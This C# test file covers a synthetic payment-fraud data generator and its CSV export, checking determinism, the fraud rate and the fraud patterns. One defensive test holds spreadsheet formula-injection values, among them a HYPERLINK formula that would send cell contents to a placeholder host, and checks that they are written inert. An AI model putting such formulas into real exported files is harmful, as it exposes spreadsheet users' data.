using Orleans.Trade.Risk;

namespace Orleans.Trade.Tests.Risk;

public sealed class RiskGeneratorTests
{
    private static string Csv(IEnumerable<LabelledRiskEvent> rows)
    {
        using var text = new StringWriter();
        RiskCsv.Write(text, rows);
        return text.ToString();
    }

    [Fact]
    public void The_same_seed_gives_the_same_file_and_another_seed_another()
    {
        var a = Csv(RiskGenerator.Generate(5_000, 42));
        var b = Csv(RiskGenerator.Generate(5_000, 42));
        var c = Csv(RiskGenerator.Generate(5_000, 43));

        Assert.Equal(a, b);
        Assert.NotEqual(a, c);
    }

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(3)]
    public void Fraud_is_between_1_and_3_percent_in_time_order(int seed)
    {
        var rows = RiskGenerator.Generate(20_000, seed);

        Assert.Equal(20_000, rows.Count);
        var rate = rows.Count(r => r.IsFraud) / (double)rows.Count;
        Assert.InRange(rate, 0.01, 0.03);
        Assert.True(rows.Zip(rows.Skip(1)).All(p => p.First.Event.OccurredAt <= p.Second.Event.OccurredAt));
        Assert.Equal(rows.Count, rows.Select(r => r.Event.PaymentId).Distinct().Count());
    }

    [Fact]
    public void Every_documented_fraud_pattern_appears()
    {
        var rows = RiskGenerator.Generate(50_000, 1);
        var fraud = rows.Where(r => r.IsFraud).Select(r => r.Event).ToList();
        var buyersBefore = rows.Where(r => r.Event.OccurredAt < RiskGenerator.Start.AddDays(1)).Select(r => r.Event.BuyerId).ToHashSet();

        // Card testing: one device, many cards, small amounts.
        Assert.Contains(fraud.GroupBy(e => e.DeviceFingerprint), g => g.Select(e => e.CardFingerprint).Distinct().Count() >= 6 && g.All(e => e.AmountUsdMinor <= 500));
        // Account takeover: an account older than the period pays far above its usual amount.
        Assert.Contains(fraud, e => e.BuyerCreatedAt < RiskGenerator.Start && e.AmountUsdMinor >= 30_000 && !e.BuyerId.StartsWith("b-x", StringComparison.Ordinal));
        // Country mismatch: card, IP and ship-to all in different countries.
        Assert.Contains(fraud, e => e.CardBinCountry != e.IpCountry && e.IpCountry != e.ShipToCountry && e.CardBinCountry != e.ShipToCountry);
        // Stolen-card velocity: one card, several purchases above $50.
        Assert.Contains(fraud.GroupBy(e => e.CardFingerprint), g => g.Count() >= 3 && g.All(e => e.AmountUsdMinor >= 5_000));
        Assert.NotEmpty(buyersBefore);
    }

    [Fact]
    public void Csv_round_trips_every_field()
    {
        var rows = RiskGenerator.Generate(500, 9);

        using var reader = new StringReader(Csv(rows));
        var read = RiskCsv.Read(reader, requireLabel: true);

        Assert.Equal(rows, read);
    }

    [Fact]
    public void A_csv_file_goes_into_a_folder_that_does_not_exist_yet_and_reads_back()
    {
        var folder = Path.Combine(Path.GetTempPath(), $"risk-csv-{Guid.NewGuid():N}", "nested");
        var path = Path.Combine(folder, "labels.csv");
        var rows = RiskGenerator.Generate(100, 3);
        try
        {
            RiskCsv.WriteFile(path, rows);
            Assert.Equal(rows, RiskCsv.ReadFile(path, requireLabel: true));
        }
        finally
        {
            Directory.Delete(Path.GetDirectoryName(folder)!, recursive: true);
        }
    }

    [Fact]
    public void A_value_a_spreadsheet_would_run_as_a_formula_is_written_inert_and_stays_a_distinct_key()
    {
        // The device fingerprint is whatever the paying client sends: opened in a spreadsheet, the analysts' labels ran it.
        var at = new DateTimeOffset(2026, 12, 7, 10, 0, 0, TimeSpan.Zero);
        string[] devices = ["=HYPERLINK(\"http://x/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1)", "\tx", "%3D1", "=1", "a=b-c"];
        var rows = devices.Select((d, i) => new LabelledRiskEvent(new RiskEvent($"p-{i}", at, "b-1", at, "c-1", "DE", d, "10.0.0.1", "DE",
            "a-1", "DE", 100, i == 0 ? "-cmd" : "books", RiskOutcome.Approved), false)).ToArray();

        var text = Csv(rows);
        var read = RiskCsv.Read(new StringReader(text), requireLabel: true);

        var cells = text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1).SelectMany(l => l.Split(',')).ToArray();
        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
        Assert.Contains("%3DHYPERLINK(%22http://x/?%22&A1%2C%22x%22)", cells);
        Assert.Contains("%253D1", cells);
        // Read back as written, so a value is the same key in files of this release and of earlier ones.
        Assert.Equal(devices, read.Select(r => r.Event.DeviceFingerprint));
        Assert.Equal("-cmd", read[0].Event.SkuCategory);
    }

    [Fact]
    public void Csv_names_the_missing_columns()
    {
        using var reader = new StringReader("payment_id,occurred_at\np-1,2026-01-01T00:00:00Z\n");

        var error = Assert.Throws<FormatException>(() => RiskCsv.Read(reader, requireLabel: true));

        Assert.Contains("buyer_id", error.Message);
        Assert.Contains("label", error.Message);
    }

    [Fact]
    public void Csv_columns_may_come_in_any_order_and_label_is_optional_for_scoring()
    {
        const string text = "outcome,amount_usd_minor,payment_id,occurred_at,buyer_id,buyer_created_at,card_fingerprint,card_bin_country," +
            "device_fingerprint,ip_address,ip_country,shipping_address_key,ship_to_country,sku_category\n" +
            "declined,1999,p-1,2026-01-01T10:00:00Z,b-1,2025-01-01T00:00:00Z,c-1,US,d-1,1.2.3.4,US,a-1,US,books\n";

        var row = Assert.Single(RiskCsv.Read(new StringReader(text), requireLabel: false));

        Assert.Equal(RiskOutcome.Declined, row.Event.Outcome);
        Assert.Equal(1999, row.Event.AmountUsdMinor);
        Assert.Equal(new DateTimeOffset(2026, 1, 1, 10, 0, 0, TimeSpan.Zero), row.Event.OccurredAt);
        Assert.False(row.IsFraud);
    }
}
